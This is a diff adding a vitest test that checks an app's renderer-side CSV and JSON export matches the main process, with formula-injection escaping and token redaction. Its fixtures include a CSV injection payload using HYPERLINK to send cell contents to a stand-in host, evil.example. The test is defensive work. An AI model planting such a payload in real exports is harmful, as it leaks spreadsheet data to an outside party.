@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { parseImport, redactTokenValues, toCsv, toJson } from '../../electron/tokens/inventory-export';
+import { exportRowsLocally } from '../../renderer/src/lib/export-fallback';
 import { AppError } from '../../shared/errors';
 import { INVENTORY_EXPORT_FIELDS } from '../../shared/token-schemas';
 import type { TokenRow } from '../../shared/tokens';
@@ -134,6 +135,23 @@ describe('toCsv', () => {
   it('can start with a byte-order mark for Excel', () => {
     expect(toCsv([], { bom: true }).startsWith('\uFEFFconnection,')).toBe(true);
     expect(toCsv([]).startsWith('connection,')).toBe(true);
+  });
+});
+
+describe('one CSV escaper for both sides (issue 11, finding 7)', () => {
+  it('the renderer’s export of held rows is byte-for-byte what main writes, formula guard and redaction included', () => {
+    const hostile = [
+      row({ name: '  =HYPERLINK("https://evil.example/?"&A1)' }),
+      row({ rowId: 2, tokenId: '0PI000000000002', name: '\t@SUM(1)', userName: 'veeva-vault-ABCDEFGHIJKLMNOP1234' }),
+      row({ rowId: 3, tokenId: '0PI000000000003', name: 'plain, with "quotes"' }),
+    ];
+    const local = exportRowsLocally(hostile, 'csv', new Date('2027-01-01T00:00:00Z'));
+    expect(local.content).toBe(toCsv(hostile));
+    expect(local.content).not.toMatch(/veeva-vault-[A-Za-z0-9]/);
+    expect(local.content).toContain(`"'  =HYPERLINK(""https://evil.example/?""&A1)"`);
+    expect(local.content).toContain("'\t@SUM(1)");
+    const json = exportRowsLocally(hostile, 'json', new Date('2027-01-01T00:00:00Z'));
+    expect(json.content).toBe(toJson(hostile, { exportedAt: '2027-01-01T00:00:00.000Z' }));
   });
 });
 
